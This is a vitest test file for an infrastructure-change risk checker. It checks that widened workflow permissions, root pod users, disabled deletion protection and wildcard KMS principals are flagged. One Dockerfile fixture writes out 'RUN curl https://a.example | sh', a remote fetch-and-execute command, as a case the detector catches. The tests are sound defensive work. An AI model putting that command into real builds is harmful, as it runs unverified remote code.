// SPDX-License-Identifier: Apache-2.0
import { describe, expect, it } from "vitest";
import { block, codesOf, summarize } from "./assess.fixture.ts";
import { assessChange } from "./assess-change.ts";

describe("what is said in another place and holds as much", () => {
  const workflow = (whole: string, own: string) =>
    `on: [push]\npermissions: ${whole}\njobs:\n  test:\n    runs-on: ubuntu-24.04\n${own}    steps:\n      - run: make\n`;
  const own = (scope: string) => `    permissions: { ${scope}: write }\n`;

  it("a token's right goes from the workflow to its job, and no other right does", () => {
    const path = ".github/workflows/a.yml";
    const before = workflow("{ checks: write }", "");
    expect(codesOf(path, before, workflow("{}", own("checks")))).toBe("");
    expect(codesOf(path, before, workflow("{}", own("contents")))).toBe("privilege-widened");
    expect(codesOf(path, workflow("{ checks: read }", ""), workflow("{}", own("checks")))).toBe(
      "privilege-widened",
    );
  });

  it("a container's user goes to its pod, and another user does not", () => {
    const pod = (ofPod: string, ofContainer: string) =>
      `apiVersion: v1\nkind: Pod\nmetadata: { name: a }\nspec:\n  securityContext: ${ofPod}\n  containers:\n    - { name: a, image: "a:1", securityContext: ${ofContainer} }\n`;
    const before = pod("{ fsGroup: 1000 }", "{ runAsUser: 1000, runAsNonRoot: true }");
    expect(
      codesOf("p.yaml", before, pod("{ fsGroup: 1000, runAsUser: 1000, runAsNonRoot: true }", "{}")),
    ).toBe("");
    expect(codesOf("p.yaml", before, pod("{ fsGroup: 1000, runAsUser: 0 }", "{}"))).toContain(
      "isolation-lost",
    );
  });

  it("a pod's user goes to all of its containers, and not to one of them only", () => {
    const pod = (ofPod: string, ...ofContainers: string[]) =>
      `apiVersion: v1\nkind: Pod\nmetadata: { name: a }\nspec:\n  securityContext: ${ofPod}\n  containers:\n${ofContainers.map((own) => `    - { name: a, image: "a:1", securityContext: ${own} }\n`).join("")}`;
    const before = pod("{ runAsUser: 1000 }", "{}", "{}");
    const [own, none] = ["{ runAsUser: 1000 }", "{ privileged: false }"];
    expect(codesOf("p.yaml", before, pod("{ fsGroup: 1 }", own, own))).toBe("");
    expect(codesOf("p.yaml", before, pod("{ fsGroup: 1 }", own, none))).toBe("isolation-lost");
  });

  it("a resource of Pulumi goes by its alias to another name", () => {
    const program = (name: string, options: string) =>
      `import * as aws from "@pulumi/aws";\nexport const x = new aws.s3.Bucket("${name}", { tags: { a: "b" } }${options});\n`;
    const summary = (after: string) => {
      const paths = [
        ["Pulumi.yaml", "name: s\nruntime: nodejs\n", "name: s\nruntime: nodejs\n"],
        ["index.ts", program("a", ""), after],
      ] as const;
      return summarize(
        assessChange(
          paths.map(([path, old, now]) => ({
            path,
            before: { path, text: old },
            after: { path, text: now },
          })),
        ),
      );
    };
    expect(summary(program("b", ', { aliases: [{ name: "a" }] }'))).toEqual(["update aws.s3.Bucket.b data:"]);
    expect(summary(program("b", ""))).toContain("delete aws.s3.Bucket.a data: data-store-replaced");
  });
});

describe("what is so by itself", () => {
  it.each(["google_sql_database_instance", "google_container_cluster", "google_bigquery_table"])(
    "%s is protected where nothing is written",
    (type) => {
      const [on, off] = [
        block(type, "deletion_protection = true"),
        block(type, "deletion_protection = false"),
      ];
      expect(codesOf("a.tf", on, block(type, ""))).toBe("");
      expect(codesOf("a.tf", block(type, ""), off)).toBe("protection-off");
    },
  );

  it("what is not protected by itself loses it with the line", () => {
    const type = "aws_db_instance";
    expect(codesOf("a.tf", block(type, "deletion_protection = true"), block(type, ""))).toBe(
      "protection-off",
    );
  });

  it("a pod that leaves its node's user namespace is kept apart better, and worse where it comes back", () => {
    const pod = (line: string) =>
      `apiVersion: v1\nkind: Pod\nmetadata: { name: a }\nspec:\n${line}  containers: [{ name: a, image: "a:1" }]\n`;
    expect(codesOf("p.yaml", pod(""), pod("  hostUsers: false\n"))).toBe("");
    expect(codesOf("p.yaml", pod("  hostUsers: false\n"), pod(""))).toBe("isolation-lost");
  });
});

describe("what only speaks of it", () => {
  it("a label names a pipe into a shell, and an instruction runs one", () => {
    const image = (line: string) => `FROM a:1\n${line}USER 1\n`;
    expect(codesOf("Dockerfile", image(""), image('LABEL a="never curl https://a.example | sh"\n'))).toBe("");
    expect(codesOf("Dockerfile", image(""), image("RUN curl https://a.example | sh\n"))).toBe(
      "untrusted-code",
    );
  });

  it("everybody who is asked for their account still is nobody new", () => {
    const policy = (condition: object) =>
      JSON.stringify({
        Version: "2012-10-17",
        Statement: [
          { Effect: "Allow", Principal: "*", Action: "kms:Decrypt", Resource: "*", Condition: condition },
        ],
      });
    const both = policy({ StringEquals: { "kms:ViaService": "s3.amazonaws.com", "kms:CallerAccount": "1" } });
    const account = policy({ StringEquals: { "kms:CallerAccount": "1" } });
    const service = policy({ StringEquals: { "kms:ViaService": "s3.amazonaws.com" } });
    expect(codesOf("p.json", both, account)).toBe("privilege-widened");
    expect(codesOf("p.json", both, service)).toBe("privilege-widened wildcard-principal");
  });
});
